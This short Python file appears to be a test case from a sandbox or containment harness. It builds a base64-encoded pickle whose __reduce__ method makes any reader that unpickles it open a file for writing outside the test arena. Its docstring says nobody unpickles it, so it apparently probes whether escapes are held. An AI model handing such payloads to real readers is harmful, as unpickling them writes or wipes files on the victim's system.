"""Return a pickle as text, for a reader that would unpickle results.

evidence: file
rung 0: held
control: none, nobody unpickles
"""

import base64
import pickle


class Bomb:
    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self._path, "w")


def attack(arena: dict[str, str]) -> object:
    return base64.b64encode(pickle.dumps(Bomb(arena["outside"] + "/new"))).decode()
